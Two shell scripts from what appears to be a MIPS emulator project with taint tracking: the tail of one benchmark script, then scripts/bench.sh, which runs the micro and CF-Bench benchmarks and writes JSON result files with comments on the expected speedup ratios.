        doc["context"]["repo_build_type"] = "release"
        doc["context"]["engine"] = engine
    doc["context"]["static_precision"] = precision
    doc["context"]["jit_tier"] = jit_tier
    with open(path, "w") as f:
        json.dump(doc, f, indent=2)
        f.write("\n")
EOF

echo
echo "wrote BENCH_micro.json, BENCH_cfbench.json and BENCH_farm.json ($GIT_SHA, $ENGINE engine)"
