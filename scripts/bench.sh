#!/usr/bin/env bash
# Runs the performance suite and writes machine-readable results:
#   BENCH_micro.json   — google-benchmark JSON from bench_micro (ns/insn,
#                        insns/sec, TB hit rate per benchmark)
#   BENCH_cfbench.json — Fig. 10 CF-Bench slowdowns + shape checks
#
# Usage: scripts/bench.sh [build-dir]   (default: ./build)
#
# BENCH_micro.json records two acceptance ratios (compare items_per_second):
#   * TB cache:     BM_EmulatorNativeMips vs BM_EmulatorNativeMipsInterp
#                   (taint-free native loop, TB cache on vs seed interpreter,
#                   target >= 3x).
#   * Summary gate: the live-taint gating trio
#                   BM_EmulatorNativeMipsTracedTaintedSummary (summary-gated)
#                   vs BM_EmulatorNativeMipsTracedTainted (liveness-only)
#                   vs BM_EmulatorNativeMipsTracedTaintedFull (full trace).
#                   Taint is live in r4, so liveness-only cannot skip and
#                   lands within noise of full trace; summary-gated must
#                   clearly beat both (~3-4x in EXPERIMENTS.md).
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD_DIR="${1:-build}"

if [[ ! -x "$BUILD_DIR/bench/bench_micro" ]]; then
  echo "error: $BUILD_DIR/bench/bench_micro not built" >&2
  echo "build first: cmake -S . -B $BUILD_DIR -DCMAKE_BUILD_TYPE=Release && cmake --build $BUILD_DIR -j" >&2
  exit 1
fi

# The bundled google-benchmark predates the "0.3s" suffix syntax.
"$BUILD_DIR/bench/bench_micro" \
  --benchmark_min_time=0.3 \
  --benchmark_format=json \
  --benchmark_out=BENCH_micro.json \
  --benchmark_out_format=json

# 9 reps: the shape checks compare wall-clock medians, which need headroom
# against scheduler noise (EXPERIMENTS.md records this 9-rep median).
"$BUILD_DIR/bench/bench_fig10_cfbench" 9 --json BENCH_cfbench.json

echo
echo "wrote BENCH_micro.json and BENCH_cfbench.json"
